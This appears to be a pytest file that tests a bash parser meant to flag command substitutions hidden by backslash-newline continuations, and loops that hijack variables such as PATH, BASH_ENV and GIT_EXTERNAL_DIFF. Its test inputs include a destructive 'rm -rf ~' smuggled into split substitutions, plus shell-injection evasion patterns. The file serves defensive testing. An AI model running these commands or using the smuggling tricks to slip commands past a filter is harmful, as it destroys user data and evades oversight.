    # look-alikes: single quotes, $'..' and quoted heredocs keep backslash-newline
    ("echo '$\\\n(rm -rf ~)'", [R("echo", ["echo", "$\\\n(rm -rf ~)"])]),
    ("echo $'$\\\n(rm -rf ~)'", [R("echo", ["echo", "$\\\n(rm -rf ~)"], markers=[])]),
    ("cat <<'EOF'\n$\\\n(rm -rf ~)\nEOF", [R("cat", ["cat"])]),
    ("echo a\\\nb", [R("echo", ["echo", "ab"])]),
]


@pytest.mark.parametrize("cmd,expected", CONTINUATIONS, ids=[c for c, _ in CONTINUATIONS])
def test_backslash_newline_does_not_hide_a_substitution(cmd: str, expected: list[tuple]) -> None:
    line = parse(cmd)
    assert (line.parsed, rows(line)) == (True, expected)


def test_unquoted_split_substitution_fails_closed() -> None:
    """``echo $\\<newline>(rm -rf ~)`` unquoted: neither parser reads it; the commands seen
    are still listed, all parse_error."""
    line = parse("echo $\\\n(rm -rf ~)")
    assert line.parsed is False
    assert [(c.program, Marker.PARSE_ERROR in c.markers) for c in line.commands] == [("echo", True), ("rm", True)]


def test_word_flags_see_through_backslash_newline() -> None:
    assert analyze('"$\\\n(id)"') == ("$(id)", F_SUBST)
    assert analyze("'$\\\n(id)'") == ("$\\\n(id)", 0)
    assert strip_continuations("a\\\nb'c\\\nd'\\\\\ne") == ("ab'c\\\nd'\\\\\ne", [0, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14])
    assert strip_continuations("ab") is None


def test_substitution_offsets_map_back_over_backslash_newline() -> None:
    s = '"$\\\n(rm -rf ~)" x'
    ((start, end, i0, i1, kind, in_param),) = find_substitutions(s)
    assert (s[start:end], s[i0:i1], kind, in_param) == ("$\\\n(rm -rf ~)", "rm -rf ~", "$(", False)


def test_backtick_body_offsets() -> None:
    text, starts, ends = backtick_body("echo \\`id\\` \\\\ \\$x \\n")
    assert text == "echo `id` \\ $x \\n"
    assert [(starts[k], ends[k]) for k in (5, 6, 8, 10, 12, 15)] == [(5, 7), (7, 8), (9, 11), (12, 14), (15, 17), (19, 20)]
    assert backtick_body("echo \\n") is None


_SUBST_TEXT = st.text(alphabet="$()`{}<> ab;:-", max_size=30)


@settings(max_examples=300, deadline=None)
@given(_SUBST_TEXT, st.lists(st.integers(0, 30), max_size=4), st.booleans())
def test_backslash_newline_anywhere_hides_no_substitution(t: str, cuts: list[int], heredoc: bool) -> None:
    """Inserting backslash-newline pairs into a text (no quotes, no backslashes) changes
    nothing bash sees: the same substitutions are found, at offsets that map back."""
    s = t
    for k in sorted({min(c, len(t)) for c in cuts}, reverse=True):
        s = s[:k] + "\\\n" + s[k:]
    plain = [(kind, t[i0:i1]) for _, _, i0, i1, kind, _ in find_substitutions(t, heredoc)]
    found = [(kind, s[i0:i1].replace("\\\n", "")) for _, _, i0, i1, kind, _ in find_substitutions(s, heredoc)]
    assert found == plain


@pytest.mark.parametrize(
    "text, marked",
    [
        ("for PATH in /tmp/evil; do ls; done", True),
        ("for BASH_ENV in x; do bash -c :; done", True),
        ("select PS4 in a; do set -x; done", True),
        ("for GIT_EXTERNAL_DIFF in 'sh -c id'; do git diff; done", True),
        ("for HISTFILE in /dev/null; do :; done", True),
        ("bash -c 'for PATH in /x; do ls; done'", True),
        ("for f in src/*.py; do wc -l \"$f\"; done", False),
        ("for PATHS in a b; do echo $PATHS; done", False),
        ("echo for PATHX; ls", False),
    ],
)
def test_loops_over_hijacking_names_make_every_command_dynamic(text: str, marked: bool) -> None:
    """A loop variable such as PATH changes what the line's commands run (eval_dynamic)."""
    parsed = parse(text)
    assert parsed.commands
    assert all((Marker.EVAL_DYNAMIC in c.markers) is marked for c in parsed.commands), text


def test_background_statements_in_case_items_keep_their_context() -> None:
    """A case item's `X &` runs in the background, as anywhere else (tree-sitter front)."""
    parsed = parse("case x in *) sleep 1 & ls;; esac")
    assert [(c.program, c.context) for c in parsed.commands] == [
        ("sleep", (Ctx.CASE, Ctx.BACKGROUND)),
        ("ls", (Ctx.CASE,)),
    ]

